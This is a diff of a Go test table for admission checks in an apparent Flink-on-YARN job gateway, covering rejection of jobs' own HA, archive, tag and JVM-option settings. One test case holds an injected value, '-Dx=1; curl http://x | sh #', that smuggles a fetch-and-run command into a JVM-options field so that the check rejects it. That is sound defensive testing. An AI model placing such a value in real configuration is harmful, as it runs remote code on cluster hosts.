@@ -66,7 +66,7 @@ func TestAdmission(t *testing.T) {
 		config     map[string]string
 		queue      string
 		wantHA     *flink.HighAvailability
-		wantConfig map[string]string
+		wantConfig map[string]string // the gateway's configuration (GatewayConfig)
 		wantTags   []string
 		wantErr    string // a SpecError field, or "queue" for ErrUnknownQueue
 	}{
@@ -83,21 +83,19 @@ func TestAdmission(t *testing.T) {
 			wantConfig: map[string]string{"jobmanager.archive.fs.dir": archive, "high-availability.zookeeper.client.session-timeout": "10000"},
 			wantTags:   []string{ident.TagGateway, ident.TagHA}},
 		{name: "job opts out of HA", ha: ha, mode: flink.ModeApplication, config: map[string]string{"high-availability.type": "NONE"},
-			wantConfig: map[string]string{"high-availability.type": "NONE", "execution.submit-failed-job-on-application-error": "true",
-				"jobmanager.archive.fs.dir": archive},
-			wantTags: []string{ident.TagGateway}},
+			wantConfig: map[string]string{"execution.submit-failed-job-on-application-error": "true", "jobmanager.archive.fs.dir": archive},
+			wantTags:   []string{ident.TagGateway}},
 		{name: "opt-out with the legacy key", ha: ha, mode: flink.ModeApplication, config: map[string]string{"high-availability": "none"},
-			wantConfig: map[string]string{"high-availability": "none", "execution.submit-failed-job-on-application-error": "true",
-				"jobmanager.archive.fs.dir": archive},
-			wantTags: []string{ident.TagGateway}},
-		{name: "job's own session timeout, storage and archive", ha: ha, mode: flink.ModeApplication,
-			config: map[string]string{"high-availability.type": "zookeeper", "high-availability.storageDir": "hdfs://other/ha",
-				"high-availability.zookeeper.client.session-timeout": "30 s", "jobmanager.archive.fs.dir": "hdfs://other/archive"},
-			wantHA: &flink.HighAvailability{Quorum: "zk:2181", PathRoot: "/yarngate-flink", StorageDir: "hdfs://other/ha"},
-			wantConfig: map[string]string{"high-availability.type": "zookeeper", "high-availability.storageDir": "hdfs://other/ha",
-				"high-availability.zookeeper.client.session-timeout": "30 s", "jobmanager.archive.fs.dir": "hdfs://other/archive",
-				"execution.submit-failed-job-on-application-error": "true"},
-			wantTags: []string{ident.TagGateway, ident.TagHA}},
+			wantErr: "flinkConfig.high-availability"},
+		{name: "job asks for zookeeper HA itself", ha: ha, mode: flink.ModeApplication,
+			config: map[string]string{"high-availability.type": "zookeeper"}, wantErr: "flinkConfig.high-availability.type"},
+		{name: "job's own session timeout", ha: ha, mode: flink.ModeApplication,
+			config:  map[string]string{"high-availability.zookeeper.client.session-timeout": "30 s"},
+			wantErr: "flinkConfig.high-availability.zookeeper.client.session-timeout"},
+		{name: "job's own storage", ha: ha, mode: flink.ModeApplication,
+			config: map[string]string{"high-availability.storageDir": "hdfs://other/ha"}, wantErr: "flinkConfig.high-availability.storageDir"},
+		{name: "job's own archive", mode: flink.ModeApplication,
+			config: map[string]string{"jobmanager.archive.fs.dir": "hdfs://other/archive"}, wantErr: "flinkConfig.jobmanager.archive.fs.dir"},
 		{name: "job sets the path root", ha: ha, mode: flink.ModeApplication,
 			config: map[string]string{"high-availability.zookeeper.path.root": "/mine"}, wantErr: "flinkConfig.high-availability.zookeeper.path.root"},
 		{name: "job sets the cluster id", ha: ha, mode: flink.ModeApplication,
@@ -105,10 +103,18 @@ func TestAdmission(t *testing.T) {
 		{name: "several jobs: no HA, no fixed failure job, archive per application at submission", ha: ha, mode: flink.ModeApplication, multi: true,
 			wantConfig: map[string]string{}, wantTags: []string{ident.TagGateway, ident.TagMultipleJobs}},
 		{name: "several jobs with HA asked for", ha: ha, mode: flink.ModeApplication, multi: true,
-			config: map[string]string{"high-availability.type": "zookeeper"}, wantErr: "multipleJobs"},
+			config: map[string]string{"high-availability.type": "zookeeper"}, wantErr: "flinkConfig.high-availability.type"},
 		{name: "several jobs with submit-failed-job", mode: flink.ModeApplication, multi: true,
 			config:  map[string]string{"execution.submit-failed-job-on-application-error": "false"},
 			wantErr: "flinkConfig.execution.submit-failed-job-on-application-error"},
+		{name: "JVM options", mode: flink.ModeApplication,
+			config: map[string]string{"env.java.opts.jobmanager": "-Dx=1; curl http://x | sh #"}, wantErr: "flinkConfig.env.java.opts.jobmanager"},
+		{name: "a gateway tag", mode: flink.ModeApplication,
+			config: map[string]string{"yarn.tags": "team-a,yarngate-idem:0123"}, wantErr: "flinkConfig.yarn.tags"},
+		{name: "tags and an environment variable of the job's own", mode: flink.ModeApplication,
+			config:     map[string]string{"yarn.tags": "team-a", "containerized.taskmanager.env.MALLOC_ARENA_MAX": "4"},
+			wantConfig: map[string]string{"execution.submit-failed-job-on-application-error": "true", "jobmanager.archive.fs.dir": archive},
+			wantTags:   []string{ident.TagGateway}},
 		{name: "known queue", mode: flink.ModeApplication, queue: "etl",
 			wantConfig: map[string]string{"execution.submit-failed-job-on-application-error": "true", "jobmanager.archive.fs.dir": archive},
 			wantTags:   []string{ident.TagGateway}},
@@ -135,8 +141,11 @@ func TestAdmission(t *testing.T) {
 			if !reflect.DeepEqual(p.launch.HA, tc.wantHA) {
 				t.Errorf("HA = %+v, want %+v", p.launch.HA, tc.wantHA)
 			}
-			if !maps.Equal(p.launch.FlinkConfig, tc.wantConfig) {
-				t.Errorf("flinkConfig = %v, want %v", p.launch.FlinkConfig, tc.wantConfig)
+			if !maps.Equal(p.launch.GatewayConfig, tc.wantConfig) && len(p.launch.GatewayConfig)+len(tc.wantConfig) > 0 {
+				t.Errorf("gateway config = %v, want %v", p.launch.GatewayConfig, tc.wantConfig)
+			}
+			if !maps.Equal(p.launch.FlinkConfig, tc.config) && len(p.launch.FlinkConfig)+len(tc.config) > 0 {
+				t.Errorf("flinkConfig = %v, want the request's %v", p.launch.FlinkConfig, tc.config)
 			}
 			if !slices.Equal(p.launch.Tags, tc.wantTags) {
 				t.Errorf("tags = %v, want %v", p.launch.Tags, tc.wantTags)
